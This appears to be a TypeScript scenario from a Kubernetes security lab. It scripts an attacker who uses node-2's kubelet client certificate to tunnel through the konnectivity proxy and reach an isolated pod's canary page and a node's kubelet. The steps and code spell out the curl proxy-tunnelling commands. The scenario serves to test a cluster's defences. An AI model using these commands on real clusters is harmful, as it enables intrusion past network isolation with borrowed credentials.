import { dialThrough } from '../../apiserver/connect-egress';
import { hostThrough } from '../../apiserver/egress';
import { createAuthority } from '../../pki/authority';
import { addresses, podCidrs, ports, webPodAddress } from '../addresses';
import { randomCanaries } from '../canaries';
import { nodeAddress, nodeNames } from '../lab-pki';
import { curl } from './curl';
import { playOf } from './play';

export const konnectivityFrontDoor = playOf({
  steps: [
    'attacker: curl http://10.244.1.2:8080/canary',
    'attacker: curl --proxy https://10.0.0.30:8090 --proxy-cert kubelet-client-of-node-2.crt --proxytunnel http://10.244.1.2:8080/canary',
    'attacker: curl -k --proxy https://10.0.0.30:8090 --proxy-cert kubelet-client-of-node-2.crt --proxytunnel https://10.0.0.11:10250/healthz',
  ],
  options: {
    serverCaCert: { about: 'the authority of --server-ca-cert', oneOf: ['cluster', 'own'] },
  },
  async play(stage, { options }) {
    const own = await createAuthority({
      commonName: 'LAB konnectivity',
      random: stage.random.for('konnectivity'),
    });
    const cluster = await stage.cluster(
      options.serverCaCert === 'own' ? { konnectivityFrontendCa: own } : {},
    );
    const { attackerHost, pki, container } = cluster;
    const { signal } = stage;
    const { down: word } = randomCanaries(stage.random);
    container({ namespace: 'default', pod: 'web', container: 'web' }).plant(word);
    // A machine in the control plane's network, from which no route leads to the pods.
    for (const name of nodeNames) {
      attackerHost.routes.delete({ to: podCidrs[name], via: nodeAddress[name] });
    }

    const page = `http://${webPodAddress}:${ports.web}/canary`;
    const direct = await curl(attackerHost, page, { signal });
    await stage.did('attacker', `curl ${page}`, direct.words);

    const proxy = {
      host: addresses.konnectivityServer,
      port: ports.konnectivityServer,
      bundlePem: pki.caPem,
      clientCertificate: pki.kubeletClients['node-2'],
    };
    const tunnelled = hostThrough(attackerHost, {
      dial: (to, options) => dialThrough(attackerHost, proxy, to, options),
      close: async () => undefined,
    });
    const door = `--proxy https://${proxy.host}:${proxy.port} --proxy-cert kubelet-client-of-node-2.crt`;
    const got = await curl(tunnelled, page, { signal });
    const ask = `curl ${door} --proxytunnel ${page}`;
    if (got.body.includes(word))
      await stage.gained('attacker', ask, got.body.trim(), 'a page of a pod, by way of the agents');
    else await stage.refused('attacker', ask, got.words);

    const kubelet = `https://${addresses.node1}:${ports.kubelet}/healthz`;
    const health = await curl(tunnelled, kubelet, { signal });
    const knock = `curl -k ${door} --proxytunnel ${kubelet}`;
    if (health.status === 0) await stage.refused('attacker', knock, health.words);
    else await stage.did('attacker', knock, `${health.words}, from the kubelet itself`);
  },
});
